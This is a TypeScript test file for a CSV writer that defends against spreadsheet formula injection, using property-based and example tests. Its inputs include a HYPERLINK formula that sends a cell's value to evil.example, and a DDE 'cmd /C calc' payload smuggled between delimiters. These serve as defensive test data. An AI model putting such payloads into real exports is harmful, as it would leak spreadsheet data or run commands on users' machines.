import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvRow, unescapeFormula } from './csv.ts';

const read = (row: string): string[] =>
  parse(row, { relax_column_count: true })[0] as unknown as string[];

describe('a cell that a spreadsheet would run as a formula is prefixed with an apostrophe', () => {
  test.each([
    '=1+1',
    '+234 803',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '  =1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM',
    "'=1",
    "' =1",
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  ])('%j', (value) => {
    expect(read(csvRow(['x', value]))).toEqual(['x', `'${value}`]);
  });

  test.each(['Amara', "'s-Hertogenbosch", 'a=b', '1-2', 'x@y.example', '’=1', ''])(
    'not for %j',
    (value) => {
      expect(read(csvRow(['x', value]))).toEqual(['x', value]);
    },
  );
});

const nasty = fc.stringMatching(/^[=+\-@＝'"\t\r\n ,;ab🪨]{0,8}$/u);

test('every value is read back unchanged, and no cell starts like a formula', () => {
  fc.assert(
    fc.property(
      fc.array(fc.oneof(nasty, fc.string({ unit: 'grapheme' })), { minLength: 2 }),
      (cells) => {
        const kept = read(csvRow(['x', ...cells])).slice(1);
        expect(kept.map(unescapeFormula)).toEqual(cells);
        for (const cell of kept) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]|^[\t\r\n]/);
      },
    ),
    { numRuns: 2_000 },
  );
});

test('a row ends with CR LF, and every cell is quoted', () => {
  expect(csvRow(['a', 'b,c', 'd"e', 'f\ng', ''])).toBe('"a","b,c","d""e","f\ng",""\r\n');
});

test.each([';', '\t', '|', ','])(
  'a spreadsheet that separates cells by %j finds no formula inside a cell',
  (delimiter) => {
    const value = `x${delimiter}=cmd|' /C calc'!A1${delimiter}y`;
    const [cells] = parse(csvRow([value]), { delimiter }) as string[][];
    expect(cells).toEqual([value]);
  },
);
